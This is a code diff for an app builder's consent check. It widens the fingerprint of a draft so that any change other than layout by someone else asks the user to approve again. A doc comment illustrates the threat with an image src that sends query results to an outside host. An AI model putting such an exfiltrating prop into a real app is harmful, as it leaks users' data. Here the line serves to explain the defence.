@@ -6,7 +6,7 @@
 // queries on its own only for what this user saved or agreed to run in this browser; for
 // anything else it waits for a click. The record is per user and app, and names exactly the
 // queries and event handlers agreed to: a change by someone else asks again.
-import type { Component, EventHandler } from "../api/app-definition.gen";
+import type { Component } from "../api/app-definition.gen";
 import type { Definition } from "./edit";
 
 const PREFIX = "lathe.trusted-draft";
@@ -14,35 +14,26 @@ const PREFIX = "lathe.trusted-draft";
 const MAX_RECORD = 256 * 1024;
 
 /**
- * What decides what a draft does by itself with the data its queries return: its queries,
- * every event handler, the variables, and every `{{ }}` expression in a component's props
- * (an image whose `src` is `https://elsewhere/?d={{ queries.q.data }}` would send a
- * reviewer's results away). Layout and props without an expression (plain text, colours)
- * are left out, so moving a component or fixing a label doesn't ask again.
+ * What decides what a draft does by itself with its user's access: the whole definition but
+ * the layout. Queries and handlers decide what runs; props decide where results go and what
+ * inputs hold (an image whose `src` is `https://elsewhere/?d={{ queries.q.data }}` sends a
+ * reviewer's results away, a text input's plain default value is what a query sends), and
+ * so do a component's type and the variables. Moving or resizing a component doesn't ask
+ * again; any other change by someone else does.
  */
 export function runFingerprint(definition: Definition): string {
-  const handlers: { id: string; events: EventHandler[] }[] = [];
-  const expressions: { id: string; path: string; value: string }[] = [];
-  const walk = (components: readonly Component[]) => {
-    for (const c of components) {
-      if (c.events?.length) handlers.push({ id: c.id, events: c.events });
-      collectExpressions(c.props ?? {}, "", (path, value) => expressions.push({ id: c.id, path, value }));
-      walk(c.children ?? []);
-    }
-  };
-  for (const page of definition.pages) walk(page.components);
-  return canonical({ queries: definition.queries ?? [], handlers, expressions, variables: definition.variables ?? {} });
+  const withoutLayout = (components: readonly Component[]): unknown[] =>
+    components.map(({ layout: _layout, children, ...rest }) => ({ ...rest, children: withoutLayout(children ?? []) }));
+  return canonical({
+    queries: definition.queries ?? [],
+    variables: definition.variables ?? {},
+    pages: definition.pages.map((page) => ({ id: page.id, components: withoutLayout(page.components) })),
+  });
 }
 
-/** Calls `found` for every string holding `{{` inside `value`, with its JSON path. */
-function collectExpressions(value: unknown, path: string, found: (path: string, value: string) => void) {
-  if (typeof value === "string") {
-    if (value.includes("{{")) found(path, value);
-  } else if (Array.isArray(value)) {
-    value.forEach((item, i) => collectExpressions(item, `${path}/${i}`, found));
-  } else if (value !== null && typeof value === "object") {
-    for (const [k, v] of Object.entries(value as Record<string, unknown>)) collectExpressions(v, `${path}/${k}`, found);
-  }
+/** A draft with nothing of anyone's in it: no queries, no variables, no components. */
+export function isBlank(definition: Definition): boolean {
+  return !definition.queries?.length && Object.keys(definition.variables ?? {}).length === 0 && definition.pages.every((page) => page.components.length === 0);
 }
 
 /** JSON with object keys sorted, so a store that reorders keys doesn't change the text. */
